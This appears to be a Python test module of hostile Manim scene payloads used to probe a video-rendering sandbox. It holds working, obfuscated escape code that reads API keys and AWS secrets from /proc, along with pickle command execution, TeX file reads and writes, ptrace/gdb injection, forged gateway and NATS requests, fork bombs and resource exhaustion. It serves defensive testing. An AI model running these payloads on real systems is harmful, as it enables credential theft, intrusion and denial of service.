r"""Hostile scene code, written the way an attacker would, one payload per known attack.

Every payload shares :data:`PRELUDE`: helpers that walk to this process's ancestors through
``/proc`` (plain ``pathlib``, no ``os``), pick the secret values out of an environment dump,
and put whatever was stolen on the frame in big monospace text (the test reads every frame
back with OCR), so a leak lands where the attacker sees it — the video — and not only in
error text that a scrubber might clean. A payload that achieves something other than a
read (a file written outside its work dir, a message on the bus, a process that outlives
it, a patched warm pool) leaves the per-payload marker where the test looks for it.

The marker and the paths are filled in per payload (``@@NAME@@`` placeholders). The marker
only ever appears reversed in the code, so the stored code itself never matches the
scans of the NATS store, the logs or the frames.
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = r'''
from manim import *
from pathlib import Path
import functools
import time

MARK = "@@MARK_REVERSED@@"[::-1]
OUTSIDE = "@@OUTSIDE@@"
DATA_DIR = "@@DATA_DIR@@"
FILE_CANARY = "@@FILE_CANARY@@"
DATA_CANARY = "@@DATA_CANARY@@"
SVG_CANARY = "@@SVG_CANARY@@"
PNG_CANARY = "@@PNG_CANARY@@"
VICTIM_VIDEO = "@@VICTIM_VIDEO@@"
GATEWAY_PORT = @@GATEWAY_PORT@@
NATS_PORT = @@NATS_PORT@@
PROC = "/pr" + "oc"
WANTED = ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "API_KEYS", "OPENROUTER_API_KEY")
TARGETS = (OUTSIDE, DATA_DIR, "/tmp")


def printable(text):
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    return "".join(c if c.isprintable() else " " for c in str(text))


def pick(blob):
    """The secret values in an environment dump of this deployment (its DATA_DIR): what an
    attacker keeps. Dumps of other processes on the machine are left alone."""
    text = printable(blob)
    if "DATA_DIR=" + DATA_DIR not in text:
        return ""
    found = []
    for name in WANTED:
        at = text.find(name + "=")
        if at >= 0:
            found.append(text[at + len(name) + 1:].split(" ")[0])
    return " ".join(found)


def ancestors():
    """This process and its ancestors, read from each one's stat file."""
    pids, pid = [], "self"
    for _ in range(4):  # the render, the pool, the renderer and whatever started it
        try:
            stat = Path(PROC + "/" + pid + "/stat").read_text()
        except OSError:
            break
        me, parent = stat.split()[0], stat.rsplit(")", 1)[1].split()[1]
        pids.append(me)
        if parent in ("0", me):
            break
        pid = parent
    return pids


def environ_secrets(read):
    stolen = []
    for pid in ancestors()[1:]:
        try:
            stolen.append(pick(read(PROC + "/" + pid + "/environ")))
        except Exception:
            pass
    return " ".join(s for s in stolen if s)


def loot_with_os(osm):
    """Given the os module: steal the ancestors' secrets, drop files outside the work dir."""
    def read(path):
        fd = osm.open(path, osm.O_RDONLY)
        try:
            return osm.read(fd, 1 << 20)
        finally:
            osm.close(fd)

    for folder in TARGETS:
        try:
            fd = osm.open(folder + "/" + MARK + "-os", osm.O_WRONLY | osm.O_CREAT, 0o644)
            osm.write(fd, b"written from a render")
            osm.close(fd)
        except OSError:
            pass
    return environ_secrets(read)


def loot_with_shell(run):
    """Given a way to run a shell command: the same, by shell."""
    return pick(run(shell_script("-sh")).replace("\n", " "))


def shell_script(suffix):
    """Dump the secrets of this deployment's processes; drop files outside the work dir."""
    return (
        "for f in " + PROC + "/[0-9]*/environ; do if tr '\\0' '\\n' < $f | grep -qx "
        "'DATA_DIR=" + DATA_DIR + "'; then tr '\\0' '\\n' < $f; echo; fi; done 2>&1"
        " | grep -E '^(OPENAI_API_KEY|AWS_SECRET_ACCESS_KEY|API_KEYS|DATA_DIR)=' | sort -u;"
        " for d in " + " ".join(TARGETS) + "; do echo x > $d/" + MARK + suffix + "; done 2>&1"
    )


def show(scene, text, prefix=""):
    """Put what was stolen on the frame, big enough to read back, and keep it there."""
    text = (prefix + " " + printable(text)).strip()[:280] or "NOTHING"
    lines = [text[i:i + 22] for i in range(0, len(text), 22)][:12]
    block = VGroup(*[Text(line, font="Monospace", font_size=36) for line in lines])
    block.arrange(DOWN, aligned_edge=LEFT, buff=0.12)
    if block.width > 13:
        block.scale_to_fit_width(13)
    if block.height > 7.4:
        block.scale_to_fit_height(7.4)
    scene.add(block)
    scene.wait(0.4)


def win(scene, what, stolen=""):
    """The attack worked: say so on the frame with the marker."""
    show(scene, stolen, prefix=MARK + " " + what)
'''


@dataclass(frozen=True)
class Payload:
    """One attack: its class (for the report), id and the scene code after the prelude."""

    kind: str
    name: str
    body: str

    @property
    def id(self) -> str:
        return f"{self.kind}-{self.name}"


def _p(kind: str, name: str, body: str) -> Payload:
    return Payload(kind, name, body)


# --- policy bypasses: reach os/subprocess/ctypes, steal the ancestors' secrets, drop files --

BYPASS = [
    _p(
        "bypass",
        "manim_file_ops_os",
        """
from manim.utils.file_ops import os as osx


class Probe(Scene):
    def construct(self):
        show(self, loot_with_os(osx))
""",
    ),
    _p(
        "bypass",
        "manim_file_ops_subprocess",
        """
from manim.utils.file_ops import sp as proc


class Probe(Scene):
    def construct(self):
        run = lambda c: proc.run(["sh", "-c", c], capture_output=True, text=True).stdout
        show(self, loot_with_shell(run))
""",
    ),
    _p(
        "bypass",
        "manim_module_ops_sys",
        """
from manim.utils.module_ops import sys as interpreter


class Probe(Scene):
    def construct(self):
        show(self, loot_with_os(interpreter.modules["o" + "s"]))
""",
    ),
    _p(
        "bypass",
        "manim_module_ops_importlib",
        """
from manim.utils.module_ops import importlib as loader


class Probe(Scene):
    def construct(self):
        show(self, loot_with_os(loader.import_module("o" + "s")))
""",
    ),
    _p(
        "bypass",
        "getattr_alias_globals",
        """
from manim.utils.file_ops import guarantee_existence

reach = getattr


class Probe(Scene):
    def construct(self):
        module_globals = reach(guarantee_existence, "__glo" + "bals__")
        show(self, loot_with_os(module_globals["o" + "s"]))
""",
    ),
    _p(
        "bypass",
        "operator_attrgetter",
        """
import operator
from manim.utils.file_ops import guarantee_existence


class Probe(Scene):
    def construct(self):
        module_globals = operator.attrgetter("__glo" + "bals__")(guarantee_existence)
        show(self, loot_with_os(module_globals["o" + "s"]))
""",
    ),
    _p(
        "bypass",
        "decorator_reduce_getattr",
        """
from manim.utils.file_ops import guarantee_existence


@(lambda _: functools.reduce(getattr, ["__glo" + "bals__"], guarantee_existence)["o" + "s"])
def osx():
    pass


class Probe(Scene):
    def construct(self):
        show(self, loot_with_os(osx))
""",
    ),
    _p(
        "bypass",
        "lambda_default_getattr",
        """
from manim.utils.file_ops import guarantee_existence

osx = (lambda g=getattr, f=guarantee_existence: g(f, "__glo" + "bals__")["o" + "s"])()


class Probe(Scene):
    def construct(self):
        show(self, loot_with_os(osx))
""",
    ),
    _p(
        "bypass",
        "concatenated_dunder_subclasses",
        """
import types

g = getattr


class Probe(Scene):
    def construct(self):
        base = g(g((), "__cla" + "ss__"), "__ba" + "se__")
        found = ""
        for cls in g(base, "__subcla" + "sses__")():
            if cls.__name__ == "_wrap_close":
                names = g(g(cls, "__in" + "it__"), "__glo" + "bals__")
                found = loot_with_os(types.SimpleNamespace(**names))
                break
        show(self, found)
""",
    ),
    _p(
        "bypass",
        "numpy_ctypeslib_system",
        """
import numpy as np

g = getattr


class Probe(Scene):
    def construct(self):
        libc = vars(vars(np)["ctypes" + "lib"])["ctypes"].CDLL(None)
        system = g(libc, "sys" + "tem")

        def run(command):
            system(("(" + command + ") > stolen.txt 2>&1").encode())
            return Path("stolen.txt").read_text()

        show(self, loot_with_shell(run))
""",
    ),
    _p(
        "bypass",
        "numpy_allow_pickle",
        """
import numpy as np


class Probe(Scene):
    def construct(self):
        command = "(" + shell_script("-pickle") + ") > stolen.txt 2>&1"
        with open("probe.npy", "wb") as out:
            out.write(b"cposix\\nsystem\\n(V" + command.encode() + b"\\ntR.")
        load = getattr(np, "load")
        load("probe.npy", allow_pickle=True)
        show(self, pick(Path("stolen.txt").read_text().replace("\\n", " ")))
""",
    ),
]

# --- file reads through Manim, TeX and numpy APIs (the canary files lie outside the jail) --

READS = [
    _p(
        "read",
        "code_file_tmp",
        """
class Probe(Scene):
    def construct(self):
        listing = Code(code_file=FILE_CANARY, language="text", add_line_numbers=False)
        self.add(listing.scale_to_fit_width(13))
        self.wait(0.4)
""",
    ),
    _p(
        "read",
        "code_file_data_dir",
        """
class Probe(Scene):
    def construct(self):
        listing = Code(code_file=DATA_CANARY, language="text", add_line_numbers=False)
        self.add(listing.scale_to_fit_width(13))
        self.wait(0.4)
""",
    ),
    _p(
        "read",
        "tex_input",
        r"""
class Probe(Scene):
    def construct(self):
        self.add(Tex(r"\input{" + FILE_CANARY + "}").scale_to_fit_width(13))
        self.wait(0.4)
""",
    ),
    _p(
        "read",
        "mathtex_text_input",
        r"""
class Probe(Scene):
    def construct(self):
        self.add(MathTex(r"\text{\input{" + DATA_CANARY + "}}").scale_to_fit_width(13))
        self.wait(0.4)
""",
    ),
    _p(
        "read",
        "tex_openin_read",
        r"""
class Probe(Scene):
    def construct(self):
        source = (r"\newread\secret\openin\secret=" + FILE_CANARY
                  + r" \read\secret to\line\closein\secret \line")
        self.add(Tex(source).scale_to_fit_width(13))
        self.wait(0.4)
""",
    ),
    _p(
        "read",
        "tex_openin_macro_path",
        r"""
class Probe(Scene):
    def construct(self):
        half = len(DATA_CANARY) // 2
        source = (r"\def\first{" + DATA_CANARY[:half] + r"}\def\second{" + DATA_CANARY[half:]
                  + r"}\newread\secret\openin\secret=\first\second\relax"
                  + r"\read\secret to\line\closein\secret \line")
        self.add(Tex(source).scale_to_fit_width(13))
        self.wait(0.4)
""",
    ),
    _p(
        "read",
        "svg_mobject",
        """
class Probe(Scene):
    def construct(self):
        picture = SVGMobject(SVG_CANARY)
        widths = [part.width for part in picture.family_members_with_points()]
        text = "".join(chr(round(w / widths[0] * 100)) for w in widths[1:])
        show(self, text)
""",
    ),
    _p(
        "read",
        "image_mobject",
        """
class Probe(Scene):
    def construct(self):
        pixels = ImageMobject(PNG_CANARY).pixel_array
        show(self, "".join(chr(int(v)) for v in pixels[0, :, 0] if 32 <= int(v) < 127))
""",
    ),
    _p(
        "read",
        "numpy_fromfile",
        """
import numpy as np


class Probe(Scene):
    def construct(self):
        show(self, bytes(vars(np)["from" + "file"](FILE_CANARY, dtype=np.uint8)))
""",
    ),
    _p(
        "read",
        "numpy_genfromtxt",
        """
import numpy as np


class Probe(Scene):
    def construct(self):
        show(self, " ".join(vars(np)["genfrom" + "txt"](DATA_CANARY, dtype=str).ravel()))
""",
    ),
    _p(
        "read",
        "pathlib_read_text",
        """
class Probe(Scene):
    def construct(self):
        show(self, Path(DATA_CANARY).read_text() + " " + Path(FILE_CANARY).read_text())
""",
    ),
    _p(
        "read",
        "open_alias",
        """
reader = open


class Probe(Scene):
    def construct(self):
        show(self, reader(FILE_CANARY).read())
""",
    ),
    _p(
        "read",
        "other_renders_scene_files",
        """
import re


class Probe(Scene):
    def construct(self):
        # Another user's render may be running right now: look for its scene file.
        roots = {Path.cwd().parent, Path("/renders"), Path("/dev/shm"), Path("/var/tmp")}
        roots |= {Path(PROC) / pid / "cwd" for pid in ancestors()}
        found = []
        for root in roots:
            try:
                candidates = list(root.rglob("*.py"))[:2000]
            except OSError:
                continue
            for path in candidates:
                try:
                    text = path.read_text(errors="replace")
                except OSError:
                    continue
                if "class Victim(" in text and re.search("# run [0-9a-f]{32}", text):
                    found.append(str(path))
        if found:
            win(self, "STOLE CODE", " ".join(found[:3]))
        else:
            show(self, "NO OTHER SCENES")
""",
    ),
]

# --- /proc: other processes' environments and namespaces ---------------------------------------

PROC = [
    _p(
        "proc",
        "ancestor_environ_pathlib",
        """
class Probe(Scene):
    def construct(self):
        show(self, environ_secrets(lambda path: Path(path).read_bytes()))
""",
    ),
    _p(
        "proc",
        "every_process_environ",
        """
class Probe(Scene):
    def construct(self):
        stolen = set()
        for entry in Path(PROC).iterdir():
            if entry.name.isdigit():
                try:
                    stolen.add(pick((entry / "environ").read_bytes()))
                except OSError:
                    pass
        show(self, " ".join(sorted(s for s in stolen if s)))
""",
    ),
    _p(
        "proc",
        "ancestor_environ_by_tex",
        r"""
class Probe(Scene):
    def construct(self):
        for pid in ancestors()[1:5]:
            # NUL a space, % and # plain characters: the whole environment is one line.
            source = (r"\newread\env\openin\env=" + PROC + "/" + pid + r"/environ "
                      r"\begingroup\catcode0=10 \catcode37=12 \catcode35=12 "
                      r"\global\read\env to\line\endgroup\closein\env "
                      r"\errmessage{\detokenize\expandafter{\line}}")
            try:
                Tex(source)
            except Exception:
                pass
        logs = "".join(p.read_text(errors="replace") for p in Path(".").rglob("*.log"))
        show(self, pick(logs.replace("\n", "")))  # TeX wraps its log at 79 columns
""",
    ),
    _p(
        "proc",
        "sees_outside_namespaces",
        """
class Probe(Scene):
    def construct(self):
        own = Path(PROC + "/self/ns/net").readlink()
        others = set()
        for entry in Path(PROC).iterdir():
            if entry.name.isdigit():
                try:
                    link = (entry / "ns" / "net").readlink()
                except OSError:
                    continue
                if link != own:
                    others.add(entry.name)
        if others:
            win(self, "NS", " ".join(sorted(others)[:5]))
        else:
            show(self, "ONLY MY OWN NAMESPACE")
""",
    ),
    _p(
        "proc",
        "own_memory_inherited_from_pool",
        """
from manim.utils.module_ops import importlib as loader


class Probe(Scene):
    def construct(self):
        # A fork carries its parent's memory: look for secrets the warm pool ever held.
        ct = loader.import_module("ctyp" + "es")
        stolen = set()
        for line in Path(PROC + "/self/maps").read_text().splitlines():
            span, perms = line.split()[:2]
            if not perms.startswith("r") or "[v" in line:
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            if end - start > 64 * 2**20:
                continue
            chunk = ct.string_at(start, end - start)
            for name in WANTED:
                at = chunk.find((name + "=").encode())
                while at >= 0 and len(stolen) < 8:
                    value = printable(chunk[at + len(name) + 1:at + len(name) + 80])
                    stolen.add(value.split(" ")[0])
                    at = chunk.find((name + "=").encode(), at + 1)
        show(self, " ".join(sorted(v for v in stolen if len(v) > 3)))
""",
    ),
    _p(
        "proc",
        "inherited_descriptors",
        """
from manim.utils.file_ops import os as osx


class Probe(Scene):
    def construct(self):
        # Pipes or sockets left open by the pool: read other renders' requests, forge replies.
        got = []
        for entry in Path(PROC + "/self/fd").iterdir():
            fd = int(entry.name)
            try:
                target = str(entry.readlink())
            except OSError:
                continue
            if fd <= 2 or not target.startswith(("pipe:", "socket:")):
                continue
            try:
                osx.set_blocking(fd, False)
                got.append(target + " " + printable(osx.read(fd, 4096)))
            except OSError:
                pass
            try:
                osx.write(fd, b'{"id": 1, "exit": 0}\\n{"id": 2, "pid": 1}\\n')
                got.append(target + " WRITABLE")
            except OSError:
                pass
        if got:
            win(self, "FD", " ".join(got))
        else:
            show(self, "NO DESCRIPTORS")
""",
    ),
]

# --- network: the test's own gateway and NATS on loopback, directly and via setns/nsenter ----

_NETWORK_ACTIONS = '''
def attack_network(net):
    """Call the gateway as the victim with a stolen key, and publish on NATS: what worked."""
    done = []
    keys = environ_secrets(lambda path: Path(path).read_bytes())
    victim_key = ""
    for item in keys.replace(" ", ",").split(","):
        if item.endswith(":victim"):
            victim_key = item.split(":")[0]
    try:
        body = ('{"code": "from manim import *\\\\nclass ' + MARK + '(Scene):\\\\n    pass\\\\n"}')
        with net.create_connection(("127.0.0.1", GATEWAY_PORT), timeout=3) as conn:
            conn.sendall(("POST /api/v1/videos/render HTTP/1.0\\r\\nHost: x\\r\\n"
                          "Authorization: Bearer " + victim_key + "\\r\\n"
                          "Content-Type: application/json\\r\\nContent-Length: "
                          + str(len(body)) + "\\r\\n\\r\\n" + body).encode())
            done.append("GATEWAY " + conn.recv(200).decode(errors="replace"))
    except OSError:
        pass
    try:
        with net.create_connection(("127.0.0.1", NATS_PORT), timeout=3) as conn:
            conn.recv(4096)
            event = "videogen." + MARK + ".job.failed"
            conn.sendall(("CONNECT {}\\r\\nPUB " + event
                          + " 6\\r\\nforged\\r\\nPING\\r\\n").encode())
            done.append("NATS " + conn.recv(100).decode(errors="replace"))
    except OSError:
        pass
    return " ".join(done)
'''

NETWORK = [
    _p(
        "net",
        "loopback_gateway_and_nats",
        """
from manim.utils.module_ops import importlib as loader
"""
        + _NETWORK_ACTIONS
        + """

class Probe(Scene):
    def construct(self):
        result = attack_network(loader.import_module("sock" + "et"))
        if result:
            win(self, "NET", result)
        else:
            show(self, "NO NETWORK")
""",
    ),
    _p(
        "net",
        "setns_into_ancestor_netns",
        """
from manim.utils.module_ops import importlib as loader
"""
        + _NETWORK_ACTIONS
        + """

class Probe(Scene):
    def construct(self):
        osx = loader.import_module("o" + "s")
        libc = loader.import_module("ctyp" + "es").CDLL(None, use_errno=True)
        entered = ""
        for pid in ancestors()[1:]:
            try:
                fd = osx.open(PROC + "/" + pid + "/ns/net", osx.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, 0x40000000) == 0:
                entered = pid
                break
        result = attack_network(loader.import_module("sock" + "et"))
        if entered or result:
            win(self, "SETNS " + entered, result)
        else:
            show(self, "NO NETWORK")
""",
    ),
    _p(
        "net",
        "nsenter_ancestor_netns",
        """
from manim.utils.file_ops import sp as proc
from manim.utils.module_ops import sys as interpreter
"""
        + _NETWORK_ACTIONS
        + """

class Probe(Scene):
    def construct(self):
        outputs = []
        for pid in ancestors()[1:]:
            child = proc.run(
                ["nsenter", "--net=" + PROC + "/" + pid + "/ns/net", interpreter.executable,
                 "-c", "import sock" + "et as n; n.create_connection(('127.0.0.1', "
                 + str(GATEWAY_PORT) + "), timeout=2); print('CONNECTED')"],
                capture_output=True, text=True, timeout=20,
            )
            if "CONNECTED" in child.stdout:
                outputs.append(pid)
        if outputs:
            win(self, "NSENTER", " ".join(outputs))
        else:
            show(self, "NO NETWORK")
""",
    ),
    _p(
        "net",
        "unix_socket_and_abstract_ns",
        """
from manim.utils.module_ops import importlib as loader


class Probe(Scene):
    def construct(self):
        net = loader.import_module("sock" + "et")
        reached = []
        for entry in Path(PROC + "/net/unix").read_text().splitlines()[1:]:
            path = entry.split()[-1] if len(entry.split()) > 7 else ""
            if not path:
                continue
            with net.socket(net.AF_UNIX) as conn:
                conn.settimeout(1)
                try:
                    conn.connect(path.replace("@", "\\0", 1))
                    reached.append(path)
                except OSError:
                    pass
        if reached:
            win(self, "UNIX", " ".join(reached[:4]))
        else:
            show(self, "NO SOCKETS")
""",
    ),
]

# --- ptrace and friends: the warm pool and the renderer ----------------------------------------

PTRACE = [
    _p(
        "ptrace",
        "gdb_patch_warm_pool",
        """
from manim.utils.file_ops import sp as proc


class Probe(Scene):
    def construct(self):
        patch = ("import manim; manim.Scene.setup = lambda self: self.add(manim.Text("
                 + repr(MARK + " PATCHED") + ", font_size=60))")
        attached = []
        for pid in ancestors()[1:3]:
            done = proc.run(
                ["gdb", "-p", pid, "-batch", "-nx",
                 "-ex", "call (int)PyGILState_Ensure()",
                 "-ex", "call (int)PyRun_SimpleString(\\"" + patch + "\\")",
                 "-ex", "call (void)PyGILState_Release($1)"],
                capture_output=True, text=True, timeout=60,
            )
            if "$2 = 0" in done.stdout:
                attached.append(pid)
        if attached:
            win(self, "GDB", " ".join(attached))
        else:
            show(self, "NO PTRACE")
""",
    ),
    _p(
        "ptrace",
        "ptrace_attach_ctypes",
        """
from manim.utils.module_ops import importlib as loader


class Probe(Scene):
    def construct(self):
        libc = loader.import_module("ctyp" + "es").CDLL(None, use_errno=True)
        attached = []
        for pid in ancestors()[1:]:
            if libc.ptrace(16, int(pid), 0, 0) == 0:  # PTRACE_ATTACH
                attached.append(pid)
                time.sleep(0.1)
                libc.ptrace(17, int(pid), 0, 0)  # PTRACE_DETACH
        if attached:
            win(self, "ATTACHED", " ".join(attached))
        else:
            show(self, "NO PTRACE")
""",
    ),
    _p(
        "ptrace",
        "proc_mem_of_ancestors",
        """
class Probe(Scene):
    def construct(self):
        stolen = []
        for pid in ancestors()[1:]:
            try:
                maps = Path(PROC + "/" + pid + "/maps").read_text().splitlines()
                with Path(PROC + "/" + pid + "/mem").open("rb") as memory:
                    for line in maps:
                        if "[stack]" in line:
                            start, end = (int(x, 16) for x in line.split()[0].split("-"))
                            memory.seek(start)
                            stolen.append(pick(memory.read(end - start)))
            except (OSError, ValueError):
                pass
        show(self, " ".join(s for s in stolen if s))
""",
    ),
    _p(
        "ptrace",
        "process_vm_readv",
        """
from manim.utils.module_ops import importlib as loader


class Probe(Scene):
    def construct(self):
        ct = loader.import_module("ctyp" + "es")
        libc = ct.CDLL(None, use_errno=True)

        class IOVec(ct.Structure):
            _fields_ = [("base", ct.c_void_p), ("len", ct.c_size_t)]

        stolen = []
        for pid in ancestors()[1:]:
            try:
                maps = Path(PROC + "/" + pid + "/maps").read_text().splitlines()
            except OSError:
                continue
            for line in maps:
                if "[stack]" not in line:
                    continue
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                buffer = ct.create_string_buffer(end - start)
                local = IOVec(ct.cast(buffer, ct.c_void_p), end - start)
                remote = IOVec(start, end - start)
                if libc.process_vm_readv(int(pid), ct.byref(local), 1, ct.byref(remote), 1, 0) > 0:
                    stolen.append(pick(buffer.raw))
        show(self, " ".join(s for s in stolen if s))
""",
    ),
]

# --- processes that try to outlive the render ----------------------------------------------------

DAEMONS = [
    _p(
        "daemon",
        "setsid_double_fork",
        """
from manim.utils.file_ops import os as osx
from manim.utils.module_ops import sys as interpreter


class Probe(Scene):
    def construct(self):
        if vars(osx)["fo" + "rk"]() == 0:
            osx.setsid()
            if vars(osx)["fo" + "rk"]() == 0:
                vars(osx)["exe" + "cv"](interpreter.executable, [interpreter.executable, "-c",
                          "import time; time.sleep(300)", MARK])
            osx._exit(0)
        time.sleep(0.5)
        show(self, "DAEMON STARTED")
""",
    ),
    _p(
        "daemon",
        "popen_new_session",
        """
from manim.utils.file_ops import sp as proc


class Probe(Scene):
    def construct(self):
        proc.Popen(["setsid", "sh", "-c", "sleep 300; : " + MARK], start_new_session=True,
                   stdout=proc.DEVNULL, stderr=proc.DEVNULL)
        time.sleep(0.5)
        show(self, "DAEMON STARTED")
""",
    ),
    _p(
        "daemon",
        "nohup_background_loop",
        """
from manim.utils.file_ops import sp as proc


class Probe(Scene):
    def construct(self):
        proc.run(["sh", "-c", "nohup sh -c 'while :; do sleep 1; done; : " + MARK
                  + "' >loop.out 2>&1 &"])
        time.sleep(0.5)
        show(self, "DAEMON STARTED")
""",
    ),
    _p(
        "daemon",
        "kill_warm_pool_leave_orphan",
        """
from manim.utils.file_ops import os as osx
from manim.utils.module_ops import sys as interpreter


class Probe(Scene):
    def construct(self):
        parent = int(ancestors()[1])
        if vars(osx)["fo" + "rk"]() == 0:
            osx.setsid()
            vars(osx)["exe" + "cv"](interpreter.executable, [interpreter.executable, "-c",
                      "import time; time.sleep(300)", MARK])
        time.sleep(0.3)
        vars(osx)["ki" + "ll"](parent, 9)
        time.sleep(1)
        show(self, "POOL KILLED")
""",
    ),
]

# --- fork floods -------------------------------------------------------------------------------

FORKS = [
    _p(
        "fork",
        "fork_flood",
        """
from manim.utils.file_ops import os as osx


class Probe(Scene):
    def construct(self):
        for _ in range(400):
            try:
                if vars(osx)["fo" + "rk"]() == 0:
                    time.sleep(60)
                    osx._exit(0)
            except OSError:
                break
        while True:
            pass
""",
    ),
    _p(
        "fork",
        "fork_tree_new_sessions",
        """
from manim.utils.file_ops import os as osx


class Probe(Scene):
    def construct(self):
        for _ in range(8):  # up to 256 processes, each in its own session
            try:
                vars(osx)["fo" + "rk"]()
                osx.setsid()
            except OSError:
                break
        time.sleep(60)
""",
    ),
    _p(
        "fork",
        "thread_flood",
        """
from manim.utils.module_ops import importlib as loader


class Probe(Scene):
    def construct(self):
        threading = loader.import_module("thread" + "ing")
        for _ in range(3000):
            try:
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            except RuntimeError:
                break
        time.sleep(60)
""",
    ),
]

# --- resources: memory, file size, CPU, wall clock ---------------------------------------------

RESOURCES = [
    _p(
        "resource",
        "memory_one_huge_array",
        """
import numpy as np


class Probe(Scene):
    def construct(self):
        hog = np.ones(8 * 2**30 // 8)
        show(self, str(hog.sum()))
""",
    ),
    _p(
        "resource",
        "memory_gradual_growth",
        """
class Probe(Scene):
    def construct(self):
        hoard = []
        for _ in range(64):  # up to 4 GiB, touched
            hoard.append(bytearray(64 * 2**20))
        show(self, str(len(hoard)))
""",
    ),
    _p(
        "resource",
        "file_size_in_workdir",
        """
class Probe(Scene):
    def construct(self):
        with open("big.bin", "wb") as out:
            for _ in range(400):  # 400 MiB
                out.write(bytes(2**20))
        show(self, "WROTE 400 MB")
""",
    ),
    _p(
        "resource",
        "cpu_spin",
        """
class Probe(Scene):
    def construct(self):
        while True:
            pass
""",
    ),
    _p(
        "resource",
        "wall_clock_sleep",
        """
class Probe(Scene):
    def construct(self):
        time.sleep(3600)
""",
    ),
]

# --- writes outside the work dir --------------------------------------------------------------

WRITES = [
    _p(
        "write",
        "numpy_open_memmap",
        """
import numpy as np


class Probe(Scene):
    def construct(self):
        for folder in TARGETS:
            try:
                np.lib.format.open_memmap(folder + "/" + MARK + "-memmap.npy", mode="w+",
                                          dtype=np.uint8, shape=(16,))
            except OSError:
                pass
        show(self, "TRIED")
""",
    ),
    _p(
        "write",
        "ndarray_dump",
        """
import numpy as np


class Probe(Scene):
    def construct(self):
        for folder in TARGETS:
            try:
                np.arange(4).dump(folder + "/" + MARK + "-dump")
            except OSError:
                pass
        show(self, "TRIED")
""",
    ),
    _p(
        "write",
        "open_alias_outside",
        """
writer = open


class Probe(Scene):
    def construct(self):
        for folder in TARGETS:
            try:
                with writer(folder + "/" + MARK + "-open", "w") as out:
                    out.write("written from a render")
            except OSError:
                pass
        show(self, "TRIED")
""",
    ),
    _p(
        "write",
        "overwrite_victims_video",
        """
class Probe(Scene):
    def construct(self):
        try:
            with Path(VICTIM_VIDEO).open("r+b") as video:
                video.seek(4096)
                video.write(MARK.encode() * 64)
        except OSError:
            pass
        show(self, "TRIED")
""",
    ),
    _p(
        "write",
        "forge_renderer_log_line",
        """
writer = open


class Probe(Scene):
    def construct(self):
        line = '{"level": "INFO", "message": "' + MARK + ' render finished", "job_id": "x"}\\n'
        try:
            with writer(DATA_DIR + "/logs/renderer.log", "a") as log:
                log.write(line)
        except OSError:
            pass
        show(self, "TRIED")
""",
    ),
    _p(
        "write",
        "into_nats_store",
        """
class Probe(Scene):
    def construct(self):
        for folder in Path(DATA_DIR).rglob("*"):
            if folder.is_dir() and "jetstream" in str(folder):
                try:
                    with (folder / (MARK + "-nats")).open("w") as out:
                        out.write(MARK)
                except OSError:
                    pass
        show(self, "TRIED")
""",
    ),
    _p(
        "write",
        "tex_openout_absolute",
        r"""
class Probe(Scene):
    def construct(self):
        source = (r"\newwrite\out\immediate\openout\out=" + OUTSIDE + "/" + MARK
                  + r"-tex.tex \immediate\write\out{x}\immediate\closeout\out ok")
        try:
            self.add(Tex(source))
        except Exception:
            pass
        show(self, "TRIED")
""",
    ),
]

ALL: list[Payload] = [
    *BYPASS,
    *READS,
    *PROC,
    *NETWORK,
    *PTRACE,
    *DAEMONS,
    *FORKS,
    *RESOURCES,
    *WRITES,
]


def scene_code(payload: Payload, values: dict[str, str]) -> str:
    """The payload's full scene file with this stack's paths, ports and marker filled in."""
    code = PRELUDE + payload.body
    for name, value in values.items():
        code = code.replace(f"@@{name}@@", value)
    assert "@@" not in code, code
    return code
